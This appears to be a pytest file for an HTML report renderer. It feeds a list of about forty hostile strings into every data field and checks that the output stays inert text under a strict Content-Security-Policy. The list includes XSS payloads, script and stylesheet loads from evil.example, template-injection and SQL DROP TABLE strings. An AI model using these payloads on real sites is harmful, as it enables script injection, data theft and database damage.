from __future__ import annotations

import base64
import hashlib
import re
import shutil
from collections.abc import Callable
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

from milepost.data.contract import Finding, RowCount
from milepost.reporting.figure_data import FigureData, figure_data
from milepost.reporting.figures import draw_all
from milepost.reporting.page import LONGEST_TEXT, SCRIPT, cut, p_value, render
from milepost.reporting.sentences import five_sentences
from milepost.reporting.summary import Summary
from milepost.terms import Action

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    '" onfocus="alert(1)" autofocus="',
    "` onclick=alert(1) `",
    "<iframe src=javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=data:text/html,<script>1</script>>",
    "<body onload=alert(1)>",
    "<style>@import url(http://evil.example)</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href=//evil.example>",
    "<form action=//e.example>",
    "<object data=//evil.example>",
    "<embed src=//evil.example>",
    "<video src=x onerror=alert(1)>",
    "<math><mtext></mtext>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<!--",
    "-->",
    "]]>",
    "<![CDATA[<script>]]>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</td></tr></table><script>alert(1)</script>",
    "{{ 7 * 7 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "${7*7}",
    "#{7*7}",
    "'; DROP TABLE accounts; --",
    "\u202egnp.exe\u202c",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "x" * 10_000,
    "\x00\x08\x1b[2J",
]


class Seen(HTMLParser):
    """What a parser finds: elements with their attributes, and all text outside style and script."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self.scripts: list[str] = []
        self._inside = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        self._inside = tag if tag in ("script", "style") else self._inside

    def handle_endtag(self, tag: str) -> None:
        self._inside = "" if tag == self._inside else self._inside

    def handle_data(self, data: str) -> None:
        (self.scripts if self._inside == "script" else self.text).append(data)


def parse(page: str) -> Seen:
    seen = Seen()
    seen.feed(page)
    return seen


def page_of(summary: Summary) -> str:
    return render(summary, draw_all(figure_data(summary)))


def quick_page_of(summary: Summary) -> str:
    """The page with one small figure only: the others take the names through the same door."""
    effects = figure_data(summary).effects
    assert effects is not None
    small = FigureData(replace(effects, bars=effects.bars[:3]), None, None, None, None, None)
    return render(summary, draw_all(small))


def poisoned(make_summary: Callable[..., Summary], text: str) -> Summary:
    """The text in every place where the page shows something that came from data, settings or files."""
    base = make_summary()
    maturity, scores, evidence = base.results.maturity, base.results.scores, base.evidence
    assert maturity is not None
    assert scores is not None
    rows = tuple(replace(row, feature=text, category=text, because=text, hypothesis=text) for row in evidence[:2])
    rows += (replace(evidence[2], feature=f"{text} 2"), *evidence[3:6])
    category = replace(maturity.categories[0], name=text, features=(text, text), because=text)
    scores = scores.assign(account_id=[f"{text}{n}" for n in range(6)], plan=text, reason_1=text, risk_band=text)
    scores[f"level_{text}"] = text
    changed = make_summary(
        evidence=rows,
        maturity=replace(
            maturity, categories=(category, *maturity.categories[1:]), by_group=maturity.by_group.assign(value=text)
        ),
        scores=scores,
        missing=(f"model: {text}", text),
        alarms=(text,),
    )
    finding = Finding(text, text, 3, Action.WARN, text)
    data = replace(changed.data, row_counts=(RowCount(text, 1, 1, 0, 0, 0),), findings=(finding,), fingerprint=text)
    versions = replace(changed.versions, model_id=text, run_id=text, milepost=text)
    return replace(changed, project=text, data=data, versions=versions)


@pytest.fixture(scope="module")
def shape() -> dict[str, Any]:
    return {}


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_stays_text(make_summary: Callable[..., Summary], shape: dict[str, Any], text: str) -> None:
    seen = parse(quick_page_of(poisoned(make_summary, text)))
    harmless = shape.setdefault("harmless", parse(quick_page_of(poisoned(make_summary, "harmless"))))
    outside = [tag for tag, _ in seen.elements if tag not in SVG_TAGS]
    assert outside == [tag for tag, _ in harmless.elements if tag not in SVG_TAGS]
    assert {tag for tag, _ in seen.elements} <= {tag for tag, _ in harmless.elements}
    assert "".join(seen.scripts) == SCRIPT
    assert {name for _, attrs in seen.elements for name in attrs} <= {
        name for _, attrs in harmless.elements for name in attrs
    }
    for _, attrs in seen.elements:
        assert not [name for name in attrs if name.startswith("on")]
        for name in ("href", "src", "xlink:href"):
            assert (attrs.get(name) or "#").startswith(("#", "data:,"))
    assert cut(text) in "".join(seen.text)


# drawing differs with the width of a label, so that only the kinds of its elements are compared
SVG_TAGS = {"g", "path", "defs", "use", "text", "clippath", "rect", "tspan", "style"}


def test_there_are_forty_hostile_texts() -> None:
    assert len(set(HOSTILE)) >= 40


def test_the_policy_forbids_everything_but_this_script(summary: Summary) -> None:
    seen = parse(page_of(summary))
    policy = next(
        attrs["content"] for _, attrs in seen.elements if attrs.get("http-equiv") == "Content-Security-Policy"
    )
    digest = base64.b64encode(hashlib.sha256("".join(seen.scripts).encode()).digest()).decode()
    assert policy is not None
    assert policy.startswith("default-src 'none'")
    assert f"script-src 'sha256-{digest}';" in policy
    assert "connect-src" not in policy


def test_nothing_points_outside(summary: Summary) -> None:
    page = page_of(summary)
    assert not re.search(r"(?:src|href)=[\"']?(?:https?:)?//", page)
    assert set(re.findall(r"https?://[^\s\"'<]+", page)) <= {
        "http://www.w3.org/2000/svg",
        "http://www.w3.org/1999/xlink",
    }


def test_landmarks_headings_and_links(summary: Summary) -> None:
    elements = parse(page_of(summary)).elements
    tags = [tag for tag, _ in elements]
    for tag in ("header", "nav", "main", "footer", "h1"):
        assert tags.count(tag) == 1
    ids = [attrs["id"] for _, attrs in elements if "id" in attrs]
    assert len(ids) == len(set(ids))
    for tag, attrs in elements:
        if tag == "a":
            assert (attrs["href"] or "")[1:] in ids
        if tag == "section":
            assert attrs["aria-labelledby"] in ids
        if tag == "th":
            assert attrs["scope"] in ("col", "row")
    assert ("html", {"lang": "en"}) in elements
    assert tags.index("a") < tags.index("header")  # the skip link comes first


def test_the_sentences_and_figures_are_on_the_page(summary: Summary) -> None:
    page = page_of(summary)
    text = " ".join("".join(parse(page).text).split())
    for sentence in five_sentences(summary):
        assert sentence in text
    assert page.count("<svg") == 6
    assert "gradient boosting (in use)" in text
    assert "All 6 scored accounts." in text
    assert "events 1,000,000 900,000 0 0 100,000 yes" in re.sub(r"\s+", " ", " ".join(parse(page).text))


def test_the_page_says_when_accounts_were_cut(make_summary: Callable[..., Summary], summary: Summary) -> None:
    scores = summary.results.scores
    assert scores is not None
    many = pd.concat([scores] * 50, ignore_index=True)
    many["account_id"] = [f"a{n}" for n in range(300)]
    text = "".join(parse(page_of(make_summary(scores=many))).text)
    assert "The 200 accounts with the highest risk of 300 scored" in text


def test_row_accounting_that_does_not_add_up_is_shown(summary: Summary) -> None:
    data = replace(summary.data, row_counts=(RowCount("events", 10, 8, 1, 0, 0),))
    assert "<td>NO</td>" in page_of(replace(summary, data=data))


def test_an_empty_summary_still_makes_a_page(make_summary: Callable[..., Summary]) -> None:
    missing = ("ranking: 12 churned accounts, 50 are needed",)
    found = make_summary(evidence=None, maturity=None, evaluation=None, scores=None, missing=missing)
    text = " ".join("".join(parse(page_of(found)).text).split())
    assert "Not computed in this run: 12 churned accounts, 50 are needed." in text
    assert "ranking: 12 churned accounts, 50 are needed" in text
    assert "None" not in text.replace("None of", "")


def test_the_same_summary_gives_the_same_page(summary: Summary) -> None:
    assert quick_page_of(summary) == quick_page_of(summary)


def test_cells() -> None:
    assert cut("x" * 10_000) == "x" * LONGEST_TEXT + "… (10,000 characters)"
    assert cut("a\u202eb\x00") == "ab�"
    assert [p_value(value) for value in (0.0341, 0.0004, float("nan"))] == ["0.034", "< 0.001", "–"]


@pytest.mark.browser
@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [390, 1440])
def test_a_browser_opens_it_without_errors_or_requests(
    make_summary: Callable[..., Summary], tmp_path: Path, scheme: Any, width: int
) -> None:
    sync_api = pytest.importorskip("playwright.sync_api")
    chromium = shutil.which("chromium")
    if chromium is None:
        pytest.skip("chromium is not installed (apt-get install chromium)")
    path = tmp_path / "report.html"
    pages = [page_of(make_summary()), *(quick_page_of(poisoned(make_summary, text)) for text in HOSTILE)]
    with sync_api.sync_playwright() as play:
        browser = play.chromium.launch(executable_path=chromium, args=["--no-sandbox"])
        context = browser.new_context(viewport={"width": width, "height": 900}, color_scheme=scheme)
        page = context.new_page()
        told: list[str] = []
        page.on("console", lambda message: told.append(message.text))
        page.on("pageerror", lambda error: told.append(str(error)))
        page.on("dialog", lambda dialog: (told.append("dialog"), dialog.dismiss()))
        page.on("request", lambda request: told.append(request.url) if request.url != path.as_uri() else None)
        for text in pages if (width, scheme) == (390, "light") else pages[:1]:
            path.write_text(text, encoding="utf-8")
            page.goto(path.as_uri())
            assert page.evaluate("document.documentElement.scrollWidth") <= width
        path.write_text(pages[0], encoding="utf-8")
        page.goto(path.as_uri())
        page.fill("#accounts-filter", "acct-0003")
        assert page.inner_text("#accounts-told") == "1 of 6 rows shown"
        page.fill("#accounts-filter", "")
        page.click("#accounts-table th:nth-child(6) button")  # MRR, highest first
        assert page.inner_text("#accounts-table tbody tr:first-child th") == "acct-0005"
        browser.close()
    assert told == []
